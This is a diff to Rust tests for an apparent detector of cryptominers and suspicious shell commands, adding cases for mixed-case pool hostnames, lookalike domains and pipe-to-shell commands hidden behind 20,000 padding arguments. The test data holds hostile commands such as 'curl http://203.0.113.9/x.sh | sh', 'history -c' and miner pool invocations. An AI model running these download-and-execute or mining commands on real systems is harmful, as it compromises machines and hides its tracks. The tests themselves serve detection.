@@ -198,6 +198,7 @@ fn finds_miners() {
             "--algo ;; ETCHASH ;; --pool ;; etc.pool.example:1010",
             "./kworker --donate-level 1 -o 203.0.113.9:80",
             "worker -o xmr.nanopool.org:14433 -u wallet",
+            "worker -o XMR.NanoPool.org.:14433 -u wallet",
             "nohup ./lolMiner &",
             "curl -d @x https://api.moneroocean.stream/miner",
         ],
@@ -206,7 +207,9 @@ fn finds_miners() {
     assert!(super::is_miner_image("ghcr.example/lolminer:1.88"));
     assert!(!super::is_miner_image("minio/minio"));
     assert!(!super::is_miner_image("example/data-miner"));
-    assert_eq!(kinds("curl https://notminexmr.com.example/"), []);
+    for other in ["notminexmr.com", "minexmr.com.example", "my-minexmr.com"] {
+        assert_eq!(kinds(&format!("curl https://{other}/")), [], "{other}");
+    }
 }
 
 #[test]
@@ -455,6 +458,33 @@ fn most_suspicious_sign_comes_first() {
     let signs = Commands::from_script("id; curl -s http://203.0.113.9/x | sh; history -c").signs();
     let texts: Vec<&str> = signs.iter().map(|sign| sign.text.as_str()).collect();
     assert_eq!(texts, ["curl -s http://203.0.113.9/x | sh", "history -c"]);
+}
+
+#[test]
+fn reads_arguments_behind_and_before_many_others() {
+    let attack = ["sh", "-c", "curl http://203.0.113.9/x.sh | sh"];
+    let padding: Vec<String> = (0..20_000).map(|number| format!("A{number}=x")).collect();
+    let padding = || padding.iter().map(String::as_str);
+    for words in [
+        ["env"].into_iter().chain(padding()).chain(attack).collect(),
+        attack.into_iter().chain(padding()).collect(),
+        // Both ends are read if there is more than is read.
+        ["env"]
+            .into_iter()
+            .chain(padding())
+            .chain(padding())
+            .chain(padding())
+            .chain(attack)
+            .collect(),
+    ] {
+        let words: Vec<&str> = words;
+        let found: Vec<Kind> = Commands::from_arguments(words)
+            .signs()
+            .iter()
+            .map(|sign| sign.kind)
+            .collect();
+        assert!(found.contains(&Kind::DownloadAndRun), "{found:?}");
+    }
 }
 
 #[test]
